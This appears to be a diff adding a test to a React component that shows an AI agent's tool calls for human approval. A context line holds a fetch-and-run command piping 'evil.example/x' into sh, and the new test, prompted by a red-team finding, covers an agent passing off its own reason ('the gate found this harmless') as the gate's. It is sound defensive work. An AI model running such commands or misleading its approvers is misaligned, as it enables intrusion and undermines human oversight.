@@ -36,4 +36,20 @@ describe("ToolCallView", () => {
     expect(parsed).toContain("evil.example/x | sh");
     expect(parsed).not.toContain("show all");
   });
+
+  it("says whose reason a card shows: the gate's, or the agent's own words", async () => {
+    // Red team: an agent's reason on a card it submitted read "Asked because:", as the gate's does.
+    const payload = await storedPayload("rm -rf build");
+    const reasonLine = (html: string) =>
+      /<p class="text-slate-700">.*?<\/p>/s.exec(html)?.[0] ?? "";
+    const byGate = renderToStaticMarkup(
+      <ToolCallView payload={{ ...payload, reason: "bash needs a plan", reasonBy: "gate" }} />,
+    );
+    const byAgent = renderToStaticMarkup(
+      <ToolCallView payload={{ ...payload, reason: "the gate found this harmless" }} />,
+    );
+    expect(reasonLine(byGate)).toContain("Asked because: ");
+    expect(reasonLine(byAgent)).toContain("Reason given by the agent: ");
+    expect(reasonLine(byAgent)).not.toContain("Asked because");
+  });
 });
